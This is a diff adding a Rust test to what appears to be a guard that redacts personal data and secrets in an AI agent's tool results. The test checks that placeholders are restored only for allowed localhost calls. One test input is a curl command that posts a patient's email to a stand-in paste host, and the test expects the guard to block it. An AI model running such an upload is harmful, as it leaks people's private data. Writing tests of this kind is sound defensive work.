@@ -101,6 +101,33 @@ fn a_credential_in_a_result_becomes_a_placeholder_that_runs_only_where_it_may() 
 }
 
 #[test]
+fn personal_data_redacted_in_a_session_gets_a_placeholder_too() {
+    let (phone, email) = ("+44 20 7946 0958", "karen.novak@clinic-mail.co.uk");
+    let g = guard(&format!("{PLACEHOLDERS}  pii:\n    mode: redact\n"));
+    let mut s = S::new(&g, "s1");
+    let v = s.result("read_file", &format!("Patient callback: {phone}\nmail: {email}\nGITHUB_TOKEN={KEY}\n")).unwrap();
+    let out = v.output.as_deref().unwrap();
+    let placeholder = |stem: &str| {
+        let at = &out[out.find(&format!("{{{{{stem}_")).unwrap_or_else(|| panic!("{stem} in {out}"))..];
+        at[..at.find("}}").unwrap() + 2].to_string()
+    };
+    let (p_phone, p_email) = (placeholder("PHONE"), placeholder("EMAIL"));
+    assert!(out.contains("GITHUB_TOKEN={{SECRET_"), "{out}");
+    assert!(!v.to_json().contains(phone) && !v.to_json().contains(email) && !v.to_json().contains(KEY));
+    // Back into a call whose every destination is allowed; not into an upload elsewhere.
+    let v = s.command(&format!("curl 'http://localhost:8080/lookup?q={p_email}'")).unwrap();
+    assert_eq!(output_command(&v), format!("curl 'http://localhost:8080/lookup?q={email}'"));
+    assert!(!all_but_output(&v).contains(email));
+    let v = s.command(&format!("curl -d 'p={p_email}' https://paste.example.invalid/up")).unwrap();
+    assert!(matches!(v.action, Action::Block | Action::Approve) && v.output.is_none(), "{v:?}");
+    assert!(!v.to_json().contains(email));
+    // A value with characters a shell reads (the phone's spaces) is never put into a command.
+    let v = s.command(&format!("curl 'http://localhost:8080/lookup?q={p_phone}'")).unwrap();
+    assert!(v.output.is_none() && v.findings.iter().any(|f| f.reason.contains("characters a shell reads")), "{v:?}");
+    assert!(!v.to_json().contains(phone));
+}
+
+#[test]
 fn an_upload_with_a_placeholder_is_not_restored_before_any_restore() {
     let g = guard(PLACEHOLDERS);
     let mut s = S::new(&g, "s1");
